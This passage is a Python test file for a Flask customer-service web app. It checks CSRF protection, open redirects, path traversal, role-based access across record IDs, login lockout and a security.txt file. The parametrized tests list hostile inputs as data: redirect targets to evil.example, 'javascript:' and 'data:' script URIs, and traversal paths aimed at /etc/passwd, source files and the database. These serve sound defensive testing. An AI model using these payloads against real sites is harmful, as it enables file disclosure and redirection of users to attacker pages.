    return re.search(r'name="csrf_token" type="hidden" value="([^"]+)"|name="csrf_token" value="([^"]+)"',
                     html(client.get(path))).group(0).split('value="')[1].rstrip('"')


def test_csrf_variants_are_refused_and_change_nothing(csrf_app, world):
    victim, other = csrf_app.test_client(), csrf_app.test_client()
    for client, who in ((victim, "zhuli1"), (other, "zhuli2")):
        token = csrf_token(client, "/login")
        assert client.post("/login", data={"username": who, "password": PASSWORD, "csrf_token": token}).status_code == 303
    others_token = csrf_token(other)
    form = {"current": PASSWORD, "password": "changed2026x", "confirm": "changed2026x"}
    before = users.User.get_by_id(world.assistant.id).password_hash
    for variant in ({}, {"csrf_token": ""}, {"csrf_token": "garbage"}, {"csrf_token": others_token},
                    {"csrf_token": others_token[:-2] + "xx"}):
        response = victim.post("/me/password", data={**form, **variant})
        assert response.status_code == 400 and "页面已过期" in text(response), variant
    # The token in a header from another session, and a cross-site form post with a forged Origin.
    assert victim.post("/me/password", data=form, headers={"X-CSRFToken": others_token}).status_code == 400
    assert victim.post("/me/password", data=form, headers={"Origin": "https://evil.example"}).status_code == 400
    # A state change by GET is not a route.
    assert victim.get("/logout").status_code == 405
    assert users.User.get_by_id(world.assistant.id).password_hash == before
    # The real form goes through.
    own = csrf_token(victim)
    assert victim.post("/me/password", data={**form, "csrf_token": own}).status_code == 303


# Open redirects

def stays_on_site(location):
    """Where a browser would go, read the lenient way browsers read it (backslash = slash)."""
    seen = re.sub(r"[\t\n\r]", "", location).replace("\\", "/")
    return urlsplit(urljoin("https://kefu.example/login", seen)).netloc == "kefu.example"


@pytest.mark.parametrize("target", [
    "//evil.example", "https://evil.example/", "http:evil.example", "/\\evil.example", "\\\\evil.example",
    "/\t/evil.example", "/%2F%2Fevil.example", "javascript:alert(1)", "  //evil.example", "///evil.example",
    "https:/evil.example", "/.//evil.example", "data:text/html,<script>alert(1)</script>",
])
def test_sign_in_never_sends_anyone_off_the_site(client, world, target):
    response = client.post("/login", query_string={"next": target},
                           data={"username": "zhuli1", "password": PASSWORD})
    assert response.status_code == 303 and stays_on_site(response.location), response.location


def test_logged_out_pages_send_to_sign_in_on_this_site(client, world):
    response = client.get("//evil.example/tickets")
    assert response.status_code in (302, 404) and stays_on_site(response.location or "/")


# Path traversal

@pytest.mark.parametrize("path", [
    "/static/../kefu/__init__.py", "/static/..%2fkefu%2f__init__.py", "/static/%2e%2e/kefu/__init__.py",
    "/static/....//kefu/__init__.py", "/static/..%5ckefu%5c__init__.py", "/static/%252e%252e/kefu/__init__.py",
    "/static//etc/passwd", "/static/../instance/test.sqlite3", "/photos/1/../../kefu/__init__.py",
    "/photos/1/..%2f..%2fkefu", "/sw.js/../../kefu/__init__.py",
])
def test_no_file_outside_static_is_served(client, world, as_user, path):
    client = as_user(world.supervisor)
    response = client.get(path)
    if response.status_code == 308:  # //etc → /etc: a page of this site, never a file outside static
        assert urlsplit(response.location).netloc in ("", "localhost")
        response = client.get(response.location)
    assert response.status_code in (400, 404), (path, response.status_code)
    assert b"create_app" not in response.data and b"root:" not in response.data and b"SQLite" not in response.data


def test_photo_file_names_come_from_the_database_only(app, world, as_user):
    photo = uploads.store(app.config["PHOTOS"], world.assistant, small_jpeg())
    client = as_user(world.assistant)
    with client.get(f"/photos/{photo.id}/full") as response:
        assert response.status_code == 200
    for size in ("../full", "full/..", "..", "thumb/../../x"):
        assert client.get(f"/photos/{photo.id}/{size}").status_code == 404


# ID walks: every GET route with an integer id, ids 1…WALK (and every GET route without arguments), as
# every role of the demo estate

# Ids walked per route (PDFs: the first only, each is a rendering); `make soak` walks further.
WALK = 25 if os.environ.get("KEFU_SOAK") else 3
DEMO_USERS = {"admin": "admin", "supervisor": "zhuguan", "assistant": "zhuli1", "frontdesk": "qiantai",
              "unit": "gongcheng"}


def zoned():
    """{argument: (model, whose zone)} for the records that belong to one zone."""
    from kefu import customers
    from kefu import renovations
    from kefu import services

    return {"ticket_id": Ticket, "finding_id": patrols.Finding, "observation_id": patrols.Observation,
            "renovation_id": renovations.Renovation, "violation_id": renovations.Violation,
            "shop_id": shops.Shop, "visit_id": customers.Visit, "need_id": customers.Need,
            "service_id": services.ServiceOrder, "order_id": workorders.WorkOrder}


@pytest.fixture(scope="module")
def demo_estate(tmp_path_factory):
    """The demo estate built once (the clock at FROZEN), signed in as each role."""
    import shutil

    import time_machine

    from conftest import FROZEN
    from kefu import db
    from kefu import demo

    folder = tmp_path_factory.mktemp("walk")
    pristine = str(folder / "demo.sqlite3")
    with time_machine.travel(FROZEN, tick=False):
        app = create_app({"TESTING": True, "INSTANCE": str(folder), "DATABASE": pristine, "WTF_CSRF_ENABLED": False,
                          "PHOTOS": str(folder / "photos"), "SCHEDULER": False,
                          "RATE_LIMITS": {"pdf": (10_000, 600)}})
        with db.database.connection_context():
            demo.build()
    if not db.database.is_closed():
        db.database.close()
    work = str(folder / "work.sqlite3")
    shutil.copyfile(pristine, work)
    return app, work


@pytest.fixture
def walk_app(demo_estate):
    import time_machine

    from conftest import FROZEN
    from kefu import db

    app, work = demo_estate
    if not db.database.is_closed():
        db.database.close()
    db.database.init(work, pragmas=db.PRAGMAS)
    with time_machine.travel(FROZEN, tick=False):
        db.database.connect(reuse_if_open=True)
        yield app
    if not db.database.is_closed():
        db.database.close()


def walked_routes(app):
    for rule in app.url_map.iter_rules():
        ints = [name for name, converter in rule._converters.items() if isinstance(converter, web.BoundedInt)]
        if "GET" in rule.methods and len(ints) == len(rule.arguments) and rule.endpoint != "static":
            yield rule, ints


def test_id_walks_as_every_role_reach_only_what_the_role_may_see_and_write_nothing(walk_app):
    zones = {}
    for username in DEMO_USERS.values():
        user = users.User.get(users.User.username == username)
        zones[username] = {z.id for z in estate.Zone.of_assistant(user)} if user.role == "assistant" else None
    owners = zoned()
    clients = {}
    for role, username in DEMO_USERS.items():
        clients[role] = walk_app.test_client()
        assert clients[role].post("/login", data={"username": username, "password": "demo1234"}).status_code == 303
    before = row_counts()
    statuses, leaks, requests = {}, [], 0
    for role, username in DEMO_USERS.items():
        client = clients[role]
        me = users.User.get(users.User.username == username)
        for rule, ints in walked_routes(walk_app):
            pdf = rule.rule.endswith(".pdf")
            for record_id in range(1, 2 if pdf or not ints else WALK + 1):
                url = fill(rule, {name: (record_id if n == 0 else 1) for n, name in enumerate(ints)})
                response = client.get(url)
                response.get_data()
                response.close()  # a file sent whole (the tab icon) is closed here, not left to the collector
                requests += 1
                statuses[response.status_code] = statuses.get(response.status_code, 0) + 1
                # 409: the sticker sheet refuses to print without a public address (the walk's app has none).
                assert response.status_code in (200, 302, 303, 403, 404, 409), (role, url, response.status_code)
                if response.status_code != 200:
                    continue
                model = owners.get(ints[0]) if ints else None
                if model is None or (ints[0] == "order_id" and not rule.rule.startswith("/workorders")):
                    continue
                record = model.get_or_none(model.id == record_id)
                if record is None:
                    continue
                # What the one access table (kefu/access.py) refuses this reader is never served: an
                # assistant reads another zone's requests, needs and visits (a household's history),
                # never its patrols, shops or renovations; a unit only its own orders.
                if role in ("assistant", "unit") and not access.may_see(me, record):
                    leaks.append((role, url))
                if role == "unit" and model is workorders.WorkOrder and record.unit_id != me.unit_id:
                    leaks.append((role, url))
    assert leaks == []
    assert statuses.get(200, 0) > 100 and statuses.get(403, 0) > 100
    assert row_counts() == before, "a GET wrote to the database"


def test_the_lock_is_shown_to_the_administrator_not_on_the_sign_in_page(client, world, traveller):
    for _ in range(users.MAX_FAILED_LOGINS):
        sign_in(client, "zhuli1", "wrong-pass1", address="10.3.3.3")
    assert "锁定至" not in text(sign_in(client, "zhuli1", "wrong-pass1", address="10.3.3.3"))
    assert sign_in(client, admin().username).status_code == 303
    listing = text(client.get("/admin/users?q=zhuli1"))
    assert "张助理" in listing and "密码连续输错，锁定至 10:15" in listing
    traveller.shift(datetime.timedelta(minutes=16))
    assert "锁定至" not in text(client.get("/admin/users?q=zhuli1"))


# Whom to tell: /.well-known/security.txt (RFC 9116) from SECURITY_CONTACT

def test_security_txt_names_the_deployments_contact(app, client):
    app.config.update(SECURITY_CONTACT="security@wuye.example, https://wuye.example/report",
                      PUBLIC_URL="https://kefu.example.com", DEMO=False)  # before set-up, too
    response = client.get("/.well-known/security.txt", base_url="https://kefu.example.com")
    assert response.status_code == 200 and response.mimetype == "text/plain"
    fields = [line.split(": ", 1) for line in response.get_data(as_text=True).splitlines()]
    assert [value for name, value in fields if name == "Contact"] == [
        "mailto:security@wuye.example", "https://wuye.example/report"]
    expires = datetime.datetime.fromisoformat(dict(fields)["Expires"].replace("Z", "+00:00"))
    assert datetime.timedelta(days=30) < expires - clock.aware(clock.utcnow()) < datetime.timedelta(days=365)
    assert dict(fields)["Canonical"] == "https://kefu.example.com/.well-known/security.txt"


def test_without_a_contact_there_is_no_security_txt(app, client):
    app.config["SECURITY_CONTACT"] = ""
    assert client.get("/.well-known/security.txt").status_code == 404
